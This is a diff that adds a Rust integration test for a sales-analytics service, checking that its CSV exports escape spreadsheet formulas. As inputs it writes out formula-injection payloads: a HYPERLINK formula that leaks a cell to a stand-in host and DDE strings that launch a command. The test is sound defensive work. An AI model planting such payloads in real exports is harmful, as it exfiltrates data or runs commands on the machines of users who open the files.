@@ -128,3 +128,103 @@ async fn every_answer_carries_the_security_headers() {
     assert!(refused.headers().contains_key("content-security-policy"));
 }
 
+/// Fetches `path` as CSV with the analyst key and parses it.
+async fn csv_rows(app: &TestApp, path: &str) -> Vec<Vec<String>> {
+    let response = app
+        .client
+        .get(app.url(path))
+        .bearer_auth(&app.analyst_key)
+        .send()
+        .await
+        .expect("request");
+    assert_eq!(response.status(), 200, "{path}");
+    let text = response.text().await.expect("body");
+    csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.expect("record").iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[tokio::test]
+async fn csv_exports_hand_a_spreadsheet_text_never_a_formula() {
+    let app = spawn_app().await;
+    let account = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
+    let owner = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let deal = json!({
+        "external_id": "csv-1", "name": "-2+3+cmd|' /C calc'!A0", "account": account,
+        "sector": "retail", "region": "+EMEA", "owner": owner, "contact_role": "champion",
+        "amount": 1000.0, "currency": "EUR", "status": "won", "created_at": "2025-10-01",
+        "closed_at": "2025-11-15", "interaction_count": 4, "response_hours": 5.0
+    });
+    let put = app.put_opportunity("csv-1", &deal).await;
+    assert!(put.status().is_success(), "{}", put.text().await.unwrap_or_default());
+    let objectives = app
+        .client
+        .put(app.url("/v1/objectives"))
+        .bearer_auth(&app.analyst_key)
+        .json(&json!({"objectives": [{"scope": "owner", "name": owner, "period": "2025-Q4",
+            "metric": "won_revenue", "currency": "EUR", "target": 400}]}))
+        .send()
+        .await
+        .expect("objectives");
+    assert_eq!(objectives.status(), 200);
+
+    let accounts = csv_rows(&app, "/v1/insights/accounts?format=csv").await;
+    assert_eq!(accounts[0][0], format!("'{account}"), "{accounts:?}");
+
+    let pipeline = csv_rows(
+        &app,
+        "/v1/insights/pipeline?group_by=owner&from=2025-10-01&to=2025-12-31&format=csv",
+    )
+    .await;
+    assert!(
+        pipeline.iter().any(|row| row[1] == format!("'{owner}")),
+        "{pipeline:?}"
+    );
+    let by_region = csv_rows(
+        &app,
+        "/v1/insights/pipeline?group_by=region&from=2025-10-01&to=2025-12-31&format=csv",
+    )
+    .await;
+    assert!(by_region.iter().any(|row| row[1] == "'+EMEA"), "{by_region:?}");
+
+    // A negative number stays a number: the gap of an objective beaten by 600.
+    let text = app
+        .client
+        .get(app.url("/v1/insights/objectives?period=2025-Q4&format=csv"))
+        .bearer_auth(&app.analyst_key)
+        .send()
+        .await
+        .expect("objectives csv")
+        .text()
+        .await
+        .expect("body");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let columns: Vec<String> = reader
+        .headers()
+        .expect("header")
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let row: Vec<String> = reader
+        .records()
+        .next()
+        .expect("one objective")
+        .expect("record")
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let column = |name: &str| &row[columns.iter().position(|c| c == name).expect(name)];
+    assert_eq!(column("name"), &format!("'{owner}"), "{text}");
+    assert_eq!(column("gap"), "-600", "{text}");
+
+    // The dashboard's download goes through the same writer.
+    let mut analyst = Browser::new(&app);
+    analyst.sign_in(&app.analyst_key).await;
+    let (status, _, csv) = analyst
+        .get("/pipeline.csv?table=owner&from=2025-10-01&to=2025-12-31")
+        .await;
+    assert_eq!(status, 200, "{csv}");
+    assert!(csv.contains(&format!("'{owner}")), "{csv}");
+}
+
